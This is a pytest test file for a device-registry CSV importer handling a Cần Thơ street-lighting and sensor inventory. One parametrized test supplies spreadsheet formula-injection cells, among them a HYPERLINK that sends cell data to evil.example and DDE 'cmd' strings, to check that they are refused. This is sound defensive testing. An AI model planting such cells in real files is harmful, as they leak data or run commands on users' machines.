"""The field-inventory CSV: parsing, all-or-nothing import, idempotent re-import."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from devices.registry.csv_import import (
    CsvImportError,
    RowError,
    import_devices,
    parse_device_csv,
)
from devices.registry.models import AuditEntry, BrokerAccountRow, Device, GroupType
from devices.registry.schemas import GroupCreate
from devices.registry.service import DeviceFilter, ImportOutcome, registry_session
from devices.wire import DeviceKind

SAMPLE = Path(__file__).resolve().parents[3] / "examples" / "inventory-can-tho.csv"
DISTRICTS = ["Ninh Kiều", "Bình Thủy", "Cái Răng", "Ô Môn", "Thốt Nốt", "Phong Điền"]

HEADER = (
    "id,kind,name,latitude,longitude,district,street,cabinet_id,cabinet_circuit,groups,"
    "rated_power_w,modbus_host,modbus_unit"
)
GOOD = f"""{HEADER}
cab-01,lighting_cabinet,Tủ điện HB-1,10.0345,105.7822,Ninh Kiều,Đại lộ Hòa Bình,,,,,10.20.1.11,1
sl-001,streetlight,Đèn HB-012,10.0342,105.7826,Ninh Kiều,Đại lộ Hòa Bình,cab-01,1,,150,,
sl-002,streetlight,Đèn HB-013,10.0338,105.7823,Ninh Kiều,Đại lộ Hòa Bình,cab-01,2,,150,,
env-01,env_monitor,Quan trắc Bến Ninh Kiều,10.0337,105.7875,Ninh Kiều,Hai Bà Trưng,,,,,,
em-01,energy_meter,Công tơ bệnh viện,10.0274,105.7548,Ninh Kiều,Nguyễn Văn Linh,,,,,10.20.3.21,2
"""


def _import(sessions: sessionmaker[Session], text: str) -> ImportOutcome:
    with registry_session(sessions, "tester", districts=DISTRICTS) as registry:
        return import_devices(registry, text)


def _rejected(sessions: sessionmaker[Session], text: str) -> set[tuple[int, str | None]]:
    with pytest.raises(CsvImportError) as caught:
        _import(sessions, text)
    return {(e.line, e.column) for e in caught.value.errors}


def _count(sessions: sessionmaker[Session], table: type[object]) -> int:
    with sessions() as session:
        return session.scalar(select(func.count()).select_from(table)) or 0


# -- parsing alone -------------------------------------------------------------


def test_excel_file_with_bom_semicolons_and_decimal_commas_parses() -> None:
    text = (
        "\ufeffid;kind;name;latitude;longitude;groups;rated_power_w\r\n"
        'sl-001;streetlight;Đèn 30/4;10,0250;105,7765;"street-304;night-dim";120\r\n'
        ";;;;;;\r\n"  # the empty row a spreadsheet leaves at the end
    )
    [device] = parse_device_csv(text)
    assert device.id == "sl-001"
    assert (device.latitude, device.longitude) == (10.025, 105.7765)
    assert device.groups == ["night-dim", "street-304"]
    assert device.rated_power_w == 120


def test_empty_cells_are_not_given_and_header_is_case_insensitive() -> None:
    text = "ID, Kind ,Name,District,Firmware\nflood-01,flood_gauge,Bến Ninh Kiều,,\n"
    [device] = parse_device_csv(text)
    assert device.kind is DeviceKind.FLOOD_GAUGE
    assert device.district is None and device.firmware is None


def test_decomposed_vietnamese_is_normalised_to_nfc() -> None:
    decomposed = "Ninh Kie\u0302\u0300u"  # what some Mac spreadsheets save
    [device] = parse_device_csv(f"id,kind,name,district\nenv-01,env_monitor,x,{decomposed}\n")
    assert device.district == "Ninh Kiều"


def test_line_numbers_are_physical_lines_even_after_a_multiline_cell() -> None:
    text = (
        "id,kind,name,latitude,longitude\n"
        'env-01,env_monitor,"two\nlines",10.03,105.77\n'
        "env-02,env_monitor,bad,95,105.77\n"
    )
    with pytest.raises(CsvImportError) as caught:
        parse_device_csv(text)
    assert caught.value.errors == [
        RowError(2, "name", "control character '\\n' in the cell; remove it"),
        RowError(4, "latitude", "Input should be less than or equal to 90"),
    ]
    assert str(caught.value).splitlines()[1] == (
        "line 4, column latitude: Input should be less than or equal to 90"
    )


@pytest.mark.parametrize(
    "cell",
    [
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        '"=1+1"',
    ],
    ids=["hyperlink", "at-sum", "plus", "minus-dde", "quoted-equals"],
)
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cell: str) -> None:
    text = f"id,kind,name,street\nenv-01,env_monitor,Trạm 1,{cell}\n"
    with pytest.raises(CsvImportError) as caught:
        parse_device_csv(text)
    [error] = caught.value.errors
    assert (error.line, error.column) == (2, "street")
    assert "formula" in error.reason


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("Tr\x00m", "\\x00"), ('"\tTab"', "\\t"), ('"x\ry"', "\\r"), ("a\x1bb", "\\x1b")],
    ids=["nul", "tab", "cr", "escape"],
)
def test_control_characters_in_a_cell_are_refused_naming_them(cell: str, shown: str) -> None:
    text = f"id,kind,name\nenv-01,env_monitor,{cell}\n"
    with pytest.raises(CsvImportError) as caught:
        parse_device_csv(text)
    [error] = caught.value.errors
    assert (error.line, error.column) == (2, "name")
    assert f"control character '{shown}'" in error.reason


def test_negative_numbers_stay_numbers_and_every_unsafe_cell_of_a_row_is_named() -> None:
    text = (
        "id,kind,name,latitude,longitude,street,ward\n"
        "env-01,env_monitor,Trạm,-10.5,-105.77,Hai Bà Trưng,\n"
        "env-02,env_monitor,=1+1,10.5,105.77,@x,-y\n"
    )
    with pytest.raises(CsvImportError) as caught:
        parse_device_csv(text)
    assert [(e.line, e.column) for e in caught.value.errors] == [
        (3, "name"),
        (3, "street"),
        (3, "ward"),
    ]
    [device] = parse_device_csv(text.splitlines(keepends=True)[0] + text.splitlines()[1])
    assert (device.latitude, device.longitude) == (-10.5, -105.77)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", (1, None)),
        ("name,kind\nx,streetlight\n", (1, "id")),
        ("id,kind,name\nenv-01,env_monitor,x,surplus\n", (2, None)),
        ('id,kind,name\n"env-01,env_monitor,x\n', (2, None)),
        ("id,kind,name,\nenv-01,env_monitor,x,stray\n", (2, None)),
        ("id,kind,name,id\nenv-01,env_monitor,x,env-02\n", (1, "id")),
    ],
    ids=["empty", "missing-id-column", "extra-cell", "open-quote", "unnamed-column", "twice"],
)
def test_malformed_files_are_rejected_naming_the_line(
    text: str, expected: tuple[int, str | None]
) -> None:
    with pytest.raises(CsvImportError) as caught:
        parse_device_csv(text)
    assert [(e.line, e.column) for e in caught.value.errors] == [expected]


def test_trailing_unnamed_empty_columns_are_ignored() -> None:
    [device] = parse_device_csv("id,kind,name,,\nenv-01,env_monitor,x,,\n")
    assert device.id == "env-01"


# -- importing into the registry -----------------------------------------------


def test_good_file_creates_devices_and_credentials_for_mqtt_kinds_only(
    sessions: sessionmaker[Session],
) -> None:
    outcome = _import(sessions, GOOD)

    assert sorted(outcome.created) == ["cab-01", "em-01", "env-01", "sl-001", "sl-002"]
    assert outcome.updated == [] and outcome.unchanged == []
    assert sorted(c.username for c in outcome.credentials) == ["env-01", "sl-001", "sl-002"]
    assert all(len(c.secret) >= 32 for c in outcome.credentials)
    with sessions() as session:
        lamp = session.get(Device, "sl-001")
        meter = session.get(Device, "em-01")
        accounts = session.scalars(select(BrokerAccountRow.username)).all()
    assert lamp is not None and lamp.cabinet_id == "cab-01" and lamp.rated_power_w == 150
    assert lamp.district == "Ninh Kiều" and lamp.street == "Đại lộ Hòa Bình"
    assert meter is not None and (meter.modbus_host, meter.modbus_port) == ("10.20.3.21", 502)
    assert meter.modbus_unit == 2 and meter.register_map == "sdm630"
    assert sorted(accounts) == ["env-01", "sl-001", "sl-002"]


def test_file_with_bad_rows_is_rejected_whole_with_one_error_per_problem(
    sessions: sessionmaker[Session],
) -> None:
    text = (
        "id,kind,name,latitude,longitude,rated_power_w,groups,colour\n"  # 1: unknown column
        "sl-001,streetlight,Good lamp,10.03,105.77,120,,\n"  # 2: fine on its own
        "sl-002,streetlamp,Bad kind,10.03,105.77,120,,\n"  # 3
        "sl-003,streetlight,Too far north,95,105.77,120,,\n"  # 4
        "sl-004,streetlight,No power,10.03,105.77,,,\n"  # 5
        "sl-001,streetlight,Twice,10.03,105.77,120,,\n"  # 6
        "sl-005,streetlight,Ghost group,10.03,105.77,120,ghost-group,\n"  # 7
    )
    assert _rejected(sessions, text) == {
        (1, "colour"),
        (3, "kind"),
        (4, "latitude"),
        (5, "rated_power_w"),
        (6, "id"),
        (7, "groups"),
    }
    assert _count(sessions, Device) == 0
    assert _count(sessions, BrokerAccountRow) == 0
    assert _count(sessions, AuditEntry) == 0


def test_rejection_message_names_line_column_and_reason(sessions: sessionmaker[Session]) -> None:
    text = "id,kind,name,latitude,longitude\nenv-01,env_monitor,x,95,105.77\n"
    with pytest.raises(CsvImportError) as caught:
        _import(sessions, text)
    assert str(caught.value) == "line 2, column latitude: Input should be less than or equal to 90"


def test_registry_problems_name_their_line(sessions: sessionmaker[Session]) -> None:
    text = (
        "id,kind,name,district,cabinet_id,rated_power_w\n"
        "env-01,env_monitor,x,Quận 1,,\n"  # 2: not a district of this city
        "sl-001,streetlight,x,Ninh Kiều,cab-missing,100\n"  # 3: no such cabinet
        "env-02,env_monitor,y,Cái Răng,,\n"  # 4: fine, but the file is rejected
    )
    assert _rejected(sessions, text) == {(2, "district"), (3, "cabinet_id")}
    assert _count(sessions, Device) == 0


def test_a_lamp_may_come_before_the_cabinet_that_feeds_it(
    sessions: sessionmaker[Session],
) -> None:
    text = (
        "id,kind,name,cabinet_id,cabinet_circuit,rated_power_w,modbus_host\n"
        "sl-001,streetlight,Đèn,cab-01,3,100,\n"
        "cab-01,lighting_cabinet,Tủ điện,,,,10.20.1.11\n"
    )
    outcome = _import(sessions, text)
    assert sorted(outcome.created) == ["cab-01", "sl-001"]


def test_reimporting_the_same_file_changes_nothing(sessions: sessionmaker[Session]) -> None:
    _import(sessions, GOOD)
    audit_entries = _count(sessions, AuditEntry)

    again = _import(sessions, GOOD)

    assert again.created == [] and again.updated == [] and again.credentials == []
    assert sorted(again.unchanged) == ["cab-01", "em-01", "env-01", "sl-001", "sl-002"]
    assert _count(sessions, AuditEntry) == audit_entries


def test_a_changed_row_updates_only_that_device(sessions: sessionmaker[Session]) -> None:
    _import(sessions, GOOD)
    audit_entries = _count(sessions, AuditEntry)
    changed = GOOD.replace("Đèn HB-013,10.0338,105.7823", "Đèn HB-013 (thay mới),10.0339,105.7823")

    outcome = _import(sessions, changed)

    assert outcome.updated == ["sl-002"]
    assert sorted(outcome.unchanged) == ["cab-01", "em-01", "env-01", "sl-001"]
    assert outcome.credentials == []  # an update never re-issues a secret
    assert _count(sessions, AuditEntry) == audit_entries + 1
    with sessions() as session:
        lamp = session.get(Device, "sl-002")
    assert lamp is not None and lamp.name == "Đèn HB-013 (thay mới)" and lamp.latitude == 10.0339


def test_groups_are_assigned_when_they_exist(sessions: sessionmaker[Session]) -> None:
    with registry_session(sessions, "tester", districts=DISTRICTS) as registry:
        street = GroupCreate(id="hoa-binh", name="Đại lộ Hòa Bình", type=GroupType.STREET)
        registry.create_group(street)
    text = 'id,kind,name,groups,rated_power_w\nsl-001,streetlight,Đèn,"hoa-binh",100\n'
    _import(sessions, text)
    with registry_session(sessions, "tester") as registry:
        rows, total = registry.list_devices(DeviceFilter(group="hoa-binh"))
    assert total == 1 and rows[0].id == "sl-001"


def test_changing_the_kind_of_an_existing_device_is_rejected(
    sessions: sessionmaker[Session],
) -> None:
    _import(sessions, "id,kind,name\nenv-01,env_monitor,x\n")
    assert _rejected(sessions, "id,kind,name\nenv-01,flood_gauge,x\n") == {(2, "kind")}


def test_sample_inventory_imports_cleanly(sessions: sessionmaker[Session]) -> None:
    outcome = _import(sessions, SAMPLE.read_text(encoding="utf-8"))

    assert len(outcome.created) == 14
    with registry_session(sessions, "tester") as registry:
        devices, total = registry.list_devices(DeviceFilter())
    assert total == 14
    kinds = {DeviceKind(d.kind) for d in devices}
    assert kinds == set(DeviceKind)
    assert {d.district for d in devices} == {"Ninh Kiều", "Cái Răng"}
    lamps = [d for d in devices if d.kind == DeviceKind.STREETLIGHT]
    assert all(d.rated_power_w is not None and 60 <= d.rated_power_w <= 150 for d in lamps)
    # Every sample device sits in Cần Thơ, near 10.03 N 105.77 E.
    assert all(d.latitude is not None and abs(d.latitude - 10.03) < 0.05 for d in devices)
    assert all(d.longitude is not None and abs(d.longitude - 105.77) < 0.05 for d in devices)
